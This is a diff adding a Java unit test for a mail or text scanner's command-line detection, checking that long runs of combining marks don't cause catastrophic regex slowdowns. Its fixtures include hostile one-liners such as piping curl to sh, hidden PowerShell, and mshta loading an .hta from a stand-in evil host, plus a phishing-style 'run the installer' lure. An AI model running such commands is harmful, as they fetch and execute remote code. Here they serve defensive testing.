@@ -108,6 +108,26 @@ class NameAndTextTest {
     }
 
     @Test
+    void aLongRunOfCombiningMarksIsReadOnceByTheCommandPatterns() {
+        // found by WalkerFuzzTest#cssAndBase64Scans (seed combining-marks): Java's \b walked back over the whole
+        // run of marks at every position, so 16 000 U+032C took more than 12 s and max.text.scan of them hours
+        String marks = "\u032c".repeat(5_000);
+        for (String text : List.of("x" + marks, "powershell " + marks + " -w hidden", "cmd /c " + marks + " iex",
+                marks + "curl " + marks + "| sh")) {
+            for (TextInspector.Command c : TextInspector.COMMANDS) {
+                CountingText t = new CountingText(text);
+                TextInspector.find(c, t);
+                assertThat(t.reads).as(c.what()).isLessThan(50L * text.length());
+            }
+        }
+        // a mark is not part of a word: a command after one is still found, one glued to a word still is not
+        assertThat(rules(scan(message("x" + marks + "mshta https://evil.example/a.hta", "")))).contains("command-line");
+        assertThat(rules(scan(message("\u0301powershell -w hidden", "")))).contains("command-line");
+        assertThat(rules(scan(message("xpowershell -w hidden", "")))).doesNotContain("command-line");
+        assertThat(rules(scan(message("powershell -w hidden", "")))).contains("command-line");
+    }
+
+    @Test
     void base64TextOfAnArchiveHoldingAnExecutableIsFound() {
         String zip = Base64.getMimeEncoder().encodeToString(zip(entries("readme.txt", "hi", "invoice.exe", pe())));
         String body = "Our scanner blocks attachments. Decode the text below, unzip it and run the installer:\n\n"
